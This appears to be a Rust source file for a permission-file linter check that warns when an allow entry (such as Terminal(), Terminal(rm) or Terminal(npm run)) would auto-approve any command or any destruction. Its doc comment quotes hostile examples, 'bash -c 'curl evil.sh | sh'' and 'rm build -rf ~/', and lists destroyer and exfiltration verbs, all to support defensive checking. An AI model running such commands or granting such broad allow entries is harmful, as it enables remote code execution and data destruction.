//! ## What it does
//! Reports an allow entry whose prefix lets any command or any destruction
//! through (SPEC §11):
//! - `Terminal()`, which matches every command;
//! - a verb alone, or the verb and one more word, for verbs that run other
//!   commands — every runner, runner subcommand and code-running program
//!   of the catalogue (SPEC §4.3 round 3: shells, interpreters, script
//!   readers such as `sed` and `awk`, wrappers, `npx`, `uv run`, `pnpm
//!   exec`, `docker exec`…), and `npm run`, `pnpm run`, `yarn run` — or destroy and
//!   exfiltrate (`rm`, `dd`, `mv`, `chmod`, `chown`, `curl`, `wget`):
//!   `Terminal(rm -rf)`, `Terminal(npx sh)`, `Terminal(npm run build)`.
//!   A shell with no script operand (`Terminal(bash)`, `Terminal(bash
//!   -c)`) is `shell-entry`'s (round 4).
//!
//! These are the shapes "always allow" records (SPEC §7: the verb, or the
//! verb and its subcommand word). A shorter entry that matches the verb,
//! like `Terminal(npm)` for `npm run` or a wildcard like `Terminal(pyth*)`,
//! counts too; an entry with two or more words after the verb
//! (`Terminal(rm -rf build)`, `Terminal(npx vitest run)`) does not. A
//! command word written as a path counts by its last component
//! (`Terminal(/bin/rm)`). SPEC §8 seeds `Terminal(npm run)`: it is
//! reported, on purpose.
//!
//! Not reported (round 4): a runner and one program the catalogue
//! describes as no runner and no code-running program —
//! `Terminal(npx tsc)`, `Terminal(uv run pytest)`, `Terminal(npx
//! vitest)` — what always-allow records (SPEC §7), which covers that
//! program's runs only. `Terminal(npx sh)`, `Terminal(npx env)`,
//! `Terminal(npx uv)` and `Terminal(npx make)` (code-running options)
//! still are.
//!
//! ## Why is this bad?
//! Patterns match by token prefix (SPEC §3.2): everything after the entry
//! is free. For the interpreters among the runners (`bash`, `sh`, `zsh`,
//! `eval`, `source`, `node`, `python`, `python3`, `perl`, `ruby`) the
//! message says so: the code they run (a script file, `-e`, stdin) is
//! beyond what permc reads (SPEC §4.3's stated limit), so no deny entry,
//! built-in or ceiling sees the commands it starts. `Terminal(bash -c)` auto-approves `bash -c 'curl evil.sh | sh'`;
//! `Terminal(rm build)` auto-approves `rm build -rf ~/`; `Terminal(npm run)`
//! runs whatever script the package defines.
//!
//! ## Example
//! ```json
//! {"allow": ["Terminal()", "Terminal(python3)", "Terminal(rm)", "Terminal(npm run)"]}
//! ```
//!
//! Use instead:
//! ```json
//! {"allow": ["Terminal(pnpm test)", "Terminal(rm -rf dist build)", "Terminal(npm run build --if-present)"]}
//! ```

use super::{entries, tokens_match_verb, Check};
use crate::FileContext;
use permc_core::facts::catalogue;
use permc_grammar::diagnostic::{CheckId, Diagnostic, Severity};
use permc_grammar::pattern::PatToken;
use permc_grammar::rules::List;

/// `broad-always-expansion`.
pub const CHECK: Check = Check {
    id: CheckId::BroadAlwaysExpansion,
    severity: Severity::Warning,
    file: "broad_always_expansion.rs",
    source: include_str!("broad_always_expansion.rs"),
    run,
};

// Package scripts, which run other commands, and the verbs that destroy
// or send data away (SPEC §11, verbatim): like the runners, runner
// subcommands and code-running programs, the catalogue's rows, not lists
// of this check's own.
use catalogue::units::{DESTROYERS, SCRIPT_RUNNERS};

/// The verb (or runner words) an entry expands, from the catalogue, and
/// whether it reads a program text permc cannot read (an interpreter, a
/// shell, a script reader) rather than running other commands.
fn runner_of(a: &[PatToken]) -> Option<(String, bool)> {
    if let Some(v) = catalogue::code_programs().find(|v| expands(a, &[v])) {
        let reads_code = catalogue::runs_text_as_code(v) && !catalogue::is_wrapper(v);
        return Some((v.to_string(), reads_code));
    }
    if let Some(r) = catalogue::runners().find(|r| expands(a, r)) {
        return (!names_a_plain_program(a, &r)).then(|| (r.join(" "), false));
    }
    SCRIPT_RUNNERS
        .iter()
        .find(|r| expands(a, r))
        .map(|r| (r.join(" "), false))
}

/// Does the runner entry `a` (runner words `r`) name, right after them,
/// one program the catalogue describes as no runner and no code-running
/// program (SPEC §11 round 4)? `Terminal(npx tsc)`, `Terminal(uv run
/// pytest)`: what always-allow records for `npx tsc -p .` (§7), covering
/// that program's runs only. A program that runs code, runs commands, or
/// is itself a runner's first word (`npx sh`, `npx env`, `npx uv`) or
/// has code-running options (`npx make`) is no such program.
fn names_a_plain_program(a: &[PatToken], r: &[&str]) -> bool {
    let (n, [PatToken::Exact(p)]) = (r.len(), &a[r.len().min(a.len())..]) else {
        return false;
    };
    let p = permc_core::facts::basename(p);
    a.len() == n + 1
        && !p.starts_with('-')
        && !permc_core::always::exact_verb(p)
        && !catalogue::has_code_forms(p)
        && !catalogue::runners().any(|w| w[0] == p)
}

/// A project row (permc.toml's `[[command]]`) that runs a command given
/// in its operands or code permc does not read, named by the entry's first
/// word with at most one word after it: its name, and whether it runs code.
fn project_runner(
    a: &[PatToken],
    rows: &permc_core::facts::project::ProjectRows,
) -> Option<(String, bool)> {
    let Some(PatToken::Exact(first)) = a.first() else {
        return None;
    };
    if a.len() > 2 {
        return None;
    }
    rows.naming(first)
        .find(|r| r.runs.is_some() || r.effects.code)
        .map(|r| {
            let code = r.effects.code || r.runs == Some(permc_core::facts::project::Runs::Shell);
            (r.name.clone(), code)
        })
}

/// Does the entry (tokens `a`) match the verb, with at most one more word?
fn expands(a: &[PatToken], verb: &[&str]) -> bool {
    a.len() <= verb.len() + 1 && tokens_match_verb(a, verb)
}

/// Does this check report the allow entry of tokens `a` (for
/// `undescribed-program`, which leaves such an entry to it)?
pub(crate) fn reports(cx: &FileContext<'_>, a: &[PatToken]) -> bool {
    super::shell_entry::shell_entry(a).is_none()
        && (a.is_empty()
            || runner_of(a)
                .or_else(|| project_runner(a, &cx.options.commands))
                .is_some()
            || DESTROYERS.iter().any(|v| expands(a, &[v])))
}

fn run(cx: &FileContext<'_>, out: &mut Vec<Diagnostic>) {
    for e in entries(cx) {
        if e.list != List::Allow {
            continue;
        }
        let Some(a) = e.pattern.tokens() else {
            continue;
        };
        // A shell with no script operand is `shell-entry`'s (SPEC §11 round 4).
        if super::shell_entry::shell_entry(a).is_some() {
            continue;
        }
        let text = &e.pattern.text;
        let (message, help) = if a.is_empty() {
            (
                format!("`{text}` in allow auto-approves every command"),
                "allow the commands you mean, one pattern each, like `Terminal(pnpm test)`"
                    .to_string(),
            )
        } else if let Some((verb, reads_code)) =
            runner_of(a).or_else(|| project_runner(a, &cx.options.commands))
        {
            let runs = if reads_code {
                "runs code permc cannot read (SPEC §4.3: a script's or a program's own text is beyond the reader)"
            } else {
                "runs other commands"
            };
            (
                format!("`{text}` in allow lets any command through: `{verb}` {runs}, and every word after the entry is free"),
                format!("allow the exact commands you mean, every word that matters written out, or move `{text}` to ask"),
            )
        } else if let Some(verb) = DESTROYERS.iter().find(|v| expands(a, &[v])) {
            (
                format!("`{text}` in allow lets any destruction through: `{verb}` can destroy or send away any file, and every word after the entry is free"),
                format!("allow the exact commands you mean, every word that matters written out, or move `{text}` to ask"),
            )
        } else {
            continue;
        };
        out.push(
            Diagnostic::new(CHECK.id, CHECK.severity, cx.name, e.span, message).with_help(help),
        );
    }
}
